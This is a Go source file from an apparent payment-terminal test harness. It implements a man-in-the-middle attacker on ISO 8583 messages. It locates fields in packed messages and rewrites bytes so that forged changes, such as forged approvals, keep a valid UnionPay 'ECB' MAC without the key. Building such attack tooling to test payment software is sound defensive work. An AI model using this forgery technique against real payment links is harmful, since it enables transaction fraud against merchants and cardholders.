package hostile

import (
	"errors"
	"fmt"

	"github.com/moov-io/iso8583"

	"github.com/posagent/posagent/agent/acquirer"
)

// The attacker works on bytes, as one on the link would: it finds where each
// field sits in the packed message and rewrites bytes in place, so that
// whatever it does not mean to change stays exactly as the host sent it.

// span is where one field sits in a packed message (from the MTI on):
// [start, end) is the whole field, data is where its value starts (after
// the length prefix).
type span struct{ start, data, end int }

// layout is a parsed message and where its fields are.
type layout struct {
	msg   []byte
	m     *iso8583.Message
	spans map[int]span
}

var (
	// errNoLayout: the message does not parse as the dialect, or has bytes
	// after its last field; it is forwarded untouched.
	errNoLayout = errors.New("hostile: message does not parse")
	// errNotApplicable: the mutation has nothing to work on in this message
	// (no MAC to strip, no approval to forge, no TDK to cut …).
	errNotApplicable = errors.New("hostile: mutation not applicable to this message")
	// errUncompensable: no byte of the free fields can absorb the change
	// while staying a valid character.
	errUncompensable = errors.New("hostile: change cannot be compensated in the free fields")
)

// bitmap offsets: the MTI is 2 BCD bytes, the primary bitmap 8 binary bytes.
const (
	mtiLen    = 2
	bitmapEnd = mtiLen + 8
	macField  = 64
	macLen    = 8
)

func bitSet(msg []byte, id int) bool {
	return msg[mtiLen+(id-1)/8]&(0x80>>((id-1)%8)) != 0
}

func clearBit(msg []byte, id int) {
	msg[mtiLen+(id-1)/8] &^= 0x80 >> ((id - 1) % 8)
}

// parse unpacks msg with agent/acquirer's codec and walks the bitmap to
// find every field's bytes. It never panics: acquirer.Unpack recovers, and
// every length read here is bounds-checked.
func parse(msg []byte) (l *layout, err error) {
	defer func() {
		if r := recover(); r != nil {
			l, err = nil, errNoLayout
		}
	}()
	m, err := acquirer.Unpack(msg)
	if err != nil || len(msg) < bitmapEnd || msg[mtiLen]&0x80 != 0 {
		// A secondary bitmap is outside the dialect.
		return nil, errNoLayout
	}
	l = &layout{msg: msg, m: m, spans: map[int]span{}}
	off := bitmapEnd
	for id := 2; id <= 64; id++ {
		if !bitSet(msg, id) {
			continue
		}
		f, ok := acquirer.Spec.Fields[id]
		if !ok || off > len(msg) {
			return nil, errNoLayout
		}
		sp := f.Spec()
		n, read, err := sp.Pref.DecodeLength(sp.Length, msg[off:])
		if err != nil || off+read > len(msg) {
			return nil, errNoLayout
		}
		_, used, err := sp.Enc.Decode(msg[off+read:], n)
		if err != nil || off+read+used > len(msg) {
			return nil, errNoLayout
		}
		l.spans[id] = span{start: off, data: off + read, end: off + read + used}
		off += read + used
	}
	if off != len(msg) {
		return nil, errNoLayout
	}
	return l, nil
}

// get returns field id as a string ("" when absent).
func (l *layout) get(id int) string { return acquirer.Get(l.m, id) }

// mti is the message type, "" when it does not read.
func (l *layout) mti() string {
	s, _ := l.m.GetMTI()
	return s
}

// macked reports whether the message carries field 64 as its last 8 bytes.
func (l *layout) macked() bool {
	sp, ok := l.spans[macField]
	return ok && sp.end == len(l.msg) && sp.end-sp.start == macLen
}

// xor8 is the UnionPay "ECB" MAC's first step: every 8-byte block of b
// XORed together (the last one zero-padded). The MAC is a function of this
// value alone, which is the weakness the forgeries use.
func xor8(b []byte) [8]byte {
	var acc [8]byte
	for i, c := range b {
		acc[i%8] ^= c
	}
	return acc
}

// compensate rewrites bytes inside the data of the free fields of msg (the
// MAC-covered part, msg[:cover]) until its blocks XOR to want again, each
// rewritten byte staying a character of the field's kind (digits first,
// then uppercase letters). Bytes in avoid are left alone (the ones the
// forgery changed on purpose). The MAC of the result is then want's MAC:
// field 64 stays valid without the key.
func compensate(msg []byte, cover int, want [8]byte, free []span, avoid map[int]bool) error {
	have := xor8(msg[:cover])
	var delta [8]byte
	for r := range delta {
		delta[r] = have[r] ^ want[r]
	}
	byResidue := map[int][]int{}
	for _, sp := range free {
		for p := sp.data; p < sp.end && p < cover; p++ {
			if !avoid[p] {
				byResidue[p%8] = append(byResidue[p%8], p)
			}
		}
	}
	for r, d := range delta {
		if d == 0 {
			continue
		}
		if !compensateOne(msg, byResidue[r], d) {
			return fmt.Errorf("%w (block offset %d)", errUncompensable, r)
		}
	}
	if xor8(msg[:cover]) != want {
		return errUncompensable // cannot happen: each residue was fixed
	}
	return nil
}

// compensateOne flips d into the bytes at positions (all of one residue):
// one byte when that keeps it a valid character, else two.
func compensateOne(msg []byte, pos []int, d byte) bool {
	for _, p := range pos {
		if c := msg[p] ^ d; validChar(c) {
			msg[p] = c
			return true
		}
	}
	for i, p := range pos {
		for _, q := range pos[i+1:] {
			for _, c := range []byte(charset) {
				c2 := msg[q] ^ d ^ msg[p] ^ c
				if c != msg[p] && validChar(c2) {
					msg[p], msg[q] = c, c2
					return true
				}
			}
		}
	}
	return false
}

// charset is what a compensated byte may become, in order of preference:
// an RRN or authorisation code that still reads as digits where it can.
const charset = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"

func validChar(c byte) bool { return c >= '0' && c <= '9' || c >= 'A' && c <= 'Z' }
